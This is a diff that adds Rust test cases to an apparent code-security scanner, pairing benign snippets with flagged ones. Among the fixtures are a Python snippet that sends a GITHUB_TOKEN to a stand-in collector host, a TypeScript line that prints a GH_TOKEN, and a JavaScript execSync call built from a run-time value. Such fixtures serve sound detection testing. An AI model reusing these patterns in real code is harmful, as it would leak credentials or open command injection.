@@ -9134,3 +9134,80 @@ fn red31a_case_items_are_ways_through() {
     ];
     check_all(rows);
 }
+
+/// A shell command with a few texts (an optional option: `tool ${v ? '--since ' + v : ''}`) is
+/// judged as each text; one that puts a run-time value where the program goes stays built at
+/// run time.
+#[test]
+fn shell_commands_with_a_few_texts() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const { execSync } = require('child_process');\nfunction changelog(version) {\n\
+             \x20 return execSync(`npx auto-changelog ${version ? '--starting-version ' + version : ''} --stdout`).toString();\n\
+             }\nmodule.exports = { changelog };\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const { execSync } = require('child_process');\nfunction lint(tool) {\n\
+             \x20 return execSync(`${tool ? tool + ' --fix' : 'eslint --fix'} src`).toString();\n\
+             }\nmodule.exports = { lint };\n",
+            Suspicious,
+            "remote-code",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// A token reaches its service through a dictionary member set by a literal key and passed as
+/// keywords (`kwargs["headers"] = headers; http.request(url, **kwargs)`), or through an option
+/// of a package's function named for the token's own service (`publish({ ghToken })`). The
+/// same token sent elsewhere, printed, or under another service's name is still flagged.
+#[test]
+fn tokens_handed_on_through_members() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import os\nimport urllib3\nTOKEN = os.getenv('GITHUB_TOKEN')\nhttp = urllib3.PoolManager()\n\
+             def get(url, **kwargs):\n    headers = {'Authorization': f'token {TOKEN}'}\n\
+             \x20   kwargs['headers'] = headers\n    return http.request('GET', url, **kwargs).data\n\
+             print(get('https://api.github.com/repos/a/b'))\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import os\nimport urllib3\nTOKEN = os.getenv('GITHUB_TOKEN')\nhttp = urllib3.PoolManager()\n\
+             def get(url, **kwargs):\n    headers = {'Authorization': f'token {TOKEN}'}\n\
+             \x20   kwargs['headers'] = headers\n    return http.request('GET', url, **kwargs).data\n\
+             print(get('https://collector.example.net/in'))\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Ts,
+            "import { publish } from '@acme/release-tools';\n\
+             await publish({ branch: process.env.BRANCH, ghToken: process.env.GH_TOKEN });\n",
+            Clean,
+            "",
+        ),
+        (
+            Ts,
+            "import { publish } from '@acme/release-tools';\n\
+             await publish({ branch: process.env.BRANCH, ghToken: process.env.GH_TOKEN });\n\
+             console.log(`token: ${process.env.GH_TOKEN}`);\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Ts,
+            "import { publish } from '@acme/release-tools';\n\
+             await publish({ branch: process.env.BRANCH, slackToken: process.env.GH_TOKEN });\n",
+            Suspicious,
+            "secret-read",
+        ),
+    ];
+    check_all(rows);
+}
